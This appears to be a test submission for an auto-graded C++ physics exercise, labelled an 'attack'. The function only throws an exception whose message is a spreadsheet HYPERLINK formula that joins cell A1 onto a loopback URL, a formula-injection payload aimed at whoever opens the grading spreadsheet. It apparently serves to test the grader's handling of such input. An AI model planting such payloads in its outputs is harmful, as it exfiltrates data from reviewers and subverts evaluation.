// attack: throws a spreadsheet formula
// exercise: 01_gbf/box
// from: own
// score: 0
rbc::Particle rbc::ex01::step_in_box(rbc::Particle, const Box&) {
    throw std::runtime_error("=HYPERLINK(\"http://127.0.0.1:9/\"&A1,\"10\")");
}
